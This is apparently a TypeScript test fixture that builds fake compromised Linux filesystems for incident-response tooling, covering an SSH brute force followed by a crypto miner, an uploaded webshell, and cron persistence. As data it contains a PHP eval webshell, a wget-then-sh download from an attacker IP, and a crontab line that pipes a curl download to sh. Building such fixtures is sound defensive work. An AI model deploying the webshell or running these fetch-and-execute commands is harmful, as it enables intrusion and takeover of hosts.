import { createHash } from 'node:crypto';
import { FakeRoot } from './fake-root';

// Planted incidents as offline images, with fixed times so reports are reproducible. Binaries are
// inert: an ELF header and deterministic filler, never real malware.

export const INCIDENT_NOW = new Date('2026-11-20T12:00:00Z');

export function inertElf(seed: string): Buffer {
  const filler = createHash('sha512').update(seed).digest();
  return Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), ...Array.from({ length: 64 }, () => filler)]);
}

export function syslogTime(d: Date): string {
  const m = d.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  return `${m} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
}

export function clfTime(d: Date): string {
  const m = d.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  return `${String(d.getUTCDate()).padStart(2, '0')}/${m}/${d.getUTCFullYear()}:${d.toISOString().slice(11, 19)} +0000`;
}

const at = (base: Date, seconds: number) => new Date(base.getTime() + seconds * 1000);

export interface BruteForcePlant {
  root: FakeRoot;
  attacker: string;
  failures: number;
  acceptedAt: Date;
  dropper: string;
  droppedAt: Date;
}

/** 650 failed root logins from one address, then an accepted password from it, a miner in /tmp 3 minutes later, a cron job. */
export function plantBruteForceMiner(opts: { minerName?: string; dropper?: string } = {}): BruteForcePlant {
  const root = new FakeRoot().base();
  const attacker = '203.0.113.50';
  const t0 = new Date('2026-11-18T03:00:00Z');
  const failures = 650;
  const lines: string[] = [];
  // A few honest logins before, so the attacker is not the only address in the log.
  lines.push(
    `${syslogTime(at(t0, -7200))} web01 sshd[900]: Accepted publickey for deploy from 192.0.2.10 port 50000 ssh2: ED25519 SHA256:x`,
  );
  for (let i = 0; i < failures; i++)
    lines.push(`${syslogTime(at(t0, i * 2))} web01 sshd[${2000 + i}]: Failed password for root from ${attacker} port ${40000 + i} ssh2`);
  const acceptedAt = at(t0, failures * 2 + 10);
  lines.push(`${syslogTime(acceptedAt)} web01 sshd[3100]: Accepted password for root from ${attacker} port 41234 ssh2`);
  lines.push(
    `${syslogTime(at(acceptedAt, 120))} web01 useradd[3160]: new user: name=mysqld, UID=1002, GID=1002, home=/home/mysqld, shell=/bin/bash, from=/dev/pts/0`,
  );
  const droppedAt = at(acceptedAt, 180);
  const dropper = opts.dropper ?? '/tmp/.x/xmrig';
  root
    .write('/etc/timezone', 'Etc/UTC\n')
    .write('/etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nUsePAM yes\n', {
      mtime: new Date('2026-01-10T09:00:00Z'),
    })
    .write('/var/log/auth.log', `${lines.join('\n')}\n`, { mtime: at(acceptedAt, 3600) })
    .write('/var/log/dpkg.log', `${droppedAt.toISOString().slice(0, 19).replace('T', ' ')} install masscan:amd64 <none> 2:1.3.2-1\n`, {
      mtime: droppedAt,
    })
    .write(dropper, inertElf('xmrig'), { mode: 0o755, mtime: droppedAt })
    .write('/tmp/.x/config.json', '{"pools":[{"url":"pool.supportxmr.com:3333","user":"4AbC"}]}\n', { mtime: droppedAt })
    .write('/var/spool/cron/crontabs/root', `*/10 * * * * ${dropper} >/dev/null 2>&1\n`, { mtime: at(droppedAt, 60) });
  return { root, attacker, failures, acceptedAt, dropper, droppedAt };
}

export interface WebshellPlant {
  root: FakeRoot;
  attacker: string;
  shell: string;
  url: string;
}

/** A PHP one-liner in an upload directory, POSTed to from one address, which then shows up in www-data's history. */
export function plantWebshell(): WebshellPlant {
  const root = new FakeRoot().base();
  const attacker = '198.51.100.7';
  const t1 = new Date('2026-11-17T08:00:00Z');
  const shell = '/var/www/html/uploads/shell.php';
  const url = '/uploads/shell.php';
  const access: string[] = [];
  for (let i = 0; i < 5; i++)
    access.push(`192.0.2.${20 + i} - - [${clfTime(at(t1, -3600 + i * 60))}] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`);
  for (let i = 0; i < 30; i++)
    access.push(`${attacker} - - [${clfTime(at(t1, 60 + i * 20))}] "POST ${url} HTTP/1.1" 200 64 "-" "Mozilla/5.0 (compatible)"`);
  const dropAt = at(t1, 900);
  root
    .write('/etc/timezone', 'Etc/UTC\n')
    .write(shell, "<?php @eval($_POST['pass']); ?>\n", { mtime: t1 })
    .write('/var/www/html/index.html', '<html>ok</html>\n', { mtime: new Date('2026-01-01T00:00:00Z') })
    .write('/var/log/nginx/access.log', `${access.join('\n')}\n`, { mtime: at(t1, 3600) })
    .write(
      '/var/www/.bash_history',
      `#${Math.floor(at(t1, 700).getTime() / 1000)}\nwget http://${attacker}/k.sh -O /var/tmp/.cache/k.sh\n#${Math.floor(at(t1, 720).getTime() / 1000)}\nsh /var/tmp/.cache/k.sh\n`,
      { mtime: at(t1, 720) },
    )
    .write('/var/tmp/.cache/kdevtmpfsi', inertElf('kdevtmpfsi'), { mode: 0o755, mtime: dropAt });
  return { root, attacker, shell, url };
}

/** Persistence and a miner, but no log, login record or web log saying how they got in. */
export function plantNoEntryEvidence(): FakeRoot {
  const t = new Date('2026-11-19T10:00:00Z');
  return new FakeRoot()
    .base()
    .write('/tmp/kworkerds', inertElf('kworkerds'), { mode: 0o755, mtime: t })
    .write('/var/spool/cron/crontabs/root', '*/15 * * * * curl -fsSL http://198.51.100.99/m.sh | sh\n', { mtime: at(t, 30) });
}
